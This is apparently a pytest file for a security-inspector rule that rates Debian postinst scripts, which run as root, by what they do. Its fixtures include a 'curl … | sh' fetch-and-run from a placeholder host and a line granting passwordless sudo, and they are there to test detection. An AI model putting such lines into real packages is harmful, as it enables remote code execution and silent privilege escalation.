import pytest

from inspector.core.severity import Severity
from inspector.rules.run.run_deb_scripts import RunDebScripts
from tests.secrets.loaded_engine import own_facts

RULE = RunDebScripts()
PATH = "control.tar.xz!/./postinst"


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("#!/bin/sh\nset -e\ncurl -s https://x.example/a | sh\n", Severity.HIGH),
        ("#!/bin/sh\necho 'x ALL=NOPASSWD' >> /etc/sudoers.d/x\n", Severity.HIGH),
        ("#!/bin/sh\nldconfig\n", Severity.LOW),
        (
            "#!/bin/sh\nset -e\n# Automatically added by dh_systemd\nsystemctl x\n# End automatically added section\n",
            Severity.INFO,
        ),
    ],
)
def test_flags_scripts_by_what_they_do(text: str, severity: Severity) -> None:
    (finding,) = RULE.check(own_facts(text, PATH))
    assert finding.severity is severity
    assert finding.message == "dpkg runs postinst as root."


def test_flags_the_line_that_counts() -> None:
    (finding,) = RULE.check(own_facts("#!/bin/sh\n# curl https://no\nwget https://x.example/a\n", PATH))
    assert finding.line == 3
    assert finding.evidence is not None
    assert finding.evidence.excerpt == "wget https://x.example/a"


def test_clean_files() -> None:
    assert not list(RULE.check(own_facts("curl https://x.example", "data.tar.xz!/usr/postinst")))
    assert not list(RULE.check(own_facts("Package: x\n", "control.tar.xz!/./control")))
